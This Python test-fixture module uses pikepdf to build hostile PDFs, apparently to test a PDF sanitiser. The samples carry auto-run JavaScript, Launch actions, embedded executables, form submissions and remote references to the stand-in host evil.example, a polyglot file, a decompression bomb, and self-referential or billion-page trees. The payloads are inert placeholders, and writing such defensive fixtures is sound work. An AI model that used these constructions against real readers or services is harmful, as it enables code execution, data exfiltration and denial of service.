"""PDFs that somebody means ill with, made on the spot."""

import zlib
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.applications.phd import pdf


def _saved(made: pikepdf.Pdf, **how: Any) -> bytes:
    out = BytesIO()
    made.save(out, **how)
    return out.getvalue()


def _page() -> pikepdf.Pdf:
    made = pikepdf.new()
    made.add_blank_page()
    return made


def with_script() -> bytes:
    made = _page()
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert('HOSTILE')"))
    made.Root.OpenAction = made.make_indirect(action)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(action)])))
    made.pages[0].obj.AA = Dictionary(O=action)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].obj.Annots = Array([made.make_indirect(link)])
    return _saved(made)


def with_launch() -> bytes:
    made = _page()
    act = Dictionary(
        S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]), Next=Dictionary(S=Name.Launch, F=String("HOSTILE.exe"))
    )
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
    made.pages[0].obj.Annots = Array([link])
    return _saved(made)


def with_file() -> bytes:
    made = _page()
    made.attachments["HOSTILE.exe"] = b"MZ HOSTILE"
    file = Dictionary(Type=Name.Filespec, F=String("HOSTILE"), EF=Dictionary(F=made.make_stream(b"MZ HOSTILE")))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=file)
    made.pages[0].obj.Annots = Array([made.make_indirect(note)])
    return _saved(made)


def with_metadata() -> bytes:
    made = _page()
    made.docinfo["/Author"] = "HOSTILE"
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = ["HOSTILE"]
    made.pages[0].obj.PieceInfo = Dictionary(HOSTILE=Dictionary(Private=String("HOSTILE")))
    return _saved(made)


def polyglot() -> bytes:
    """A web page before, an archive after."""
    return b"<html><script>HOSTILE</script>\n" + pdf() + b"\nPK\x03\x04HOSTILE"


def encrypted(user: str = "") -> bytes:
    return _saved(_page(), encryption=pikepdf.Encryption(owner="secret", user=user))


def huge(pages: int = 900) -> bytes:
    made = _page()
    for _ in range(pages - 1):
        made.pages.append(made.pages[0])
    return _saved(made)


def deep() -> bytes:
    nested = b"[" * 20_000 + b"]" * 20_000
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + nested + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def endless() -> bytes:
    """Pages that are their own children."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _linking(action: Dictionary) -> bytes:
    made = _page()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].obj.Annots = Array([link])
    return _saved(made)


def with_script_link() -> bytes:
    return _linking(Dictionary(S=Name.URI, URI=String("javascript:HOSTILE()")))


def with_file_link() -> bytes:
    return _linking(Dictionary(S=Name.URI, URI=String("file:///HOSTILE")))


def with_form_that_sends() -> bytes:
    return _linking(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/HOSTILE")))


def with_way_elsewhere() -> bytes:
    return _linking(Dictionary(S=Name.GoToR, F=String("//evil.example/HOSTILE"), D=Array([0, Name.Fit])))


def with_picture_elsewhere() -> bytes:
    """Its bytes stand behind an address, which a viewer would ask for."""
    made = _page()
    picture = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    picture.F = String("https://evil.example/HOSTILE")
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=picture))
    return _saved(made)


def with_page_elsewhere() -> bytes:
    made = _page()
    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("https://evil.example/HOSTILE.pdf"), Page=0)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=form))
    return _saved(made)


def packed_twice(megabytes: int = 40) -> bytes:
    """A few hundred bytes that open to as many megabytes."""
    made = _page()
    packed = zlib.compress(zlib.compress(b" " * megabytes * 1024 * 1024, 9), 9)
    stream = made.make_stream(b"x")
    stream.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    made.pages[0].obj.Contents = stream
    return _saved(made, compress_streams=False)


def itself() -> bytes:
    """Opens by guessing, and has nothing in it."""
    return b"%PDF-1.7\n1 0 obj 1 0 R endobj\n2 0 obj<</Length 2 0 R>>stream\nx\nendstream endobj\n%%EOF"


def shared_pages() -> bytes:
    """Thirty objects that count a billion pages."""
    data = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    for number in range(2, 32):
        kid = number + 1
        data += b"%d 0 obj<</Type/Pages/Count 2/Kids[%d 0 R %d 0 R]>>endobj\n" % (number, kid, kid)
    return data + b"32 0 obj<</Type/Page/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
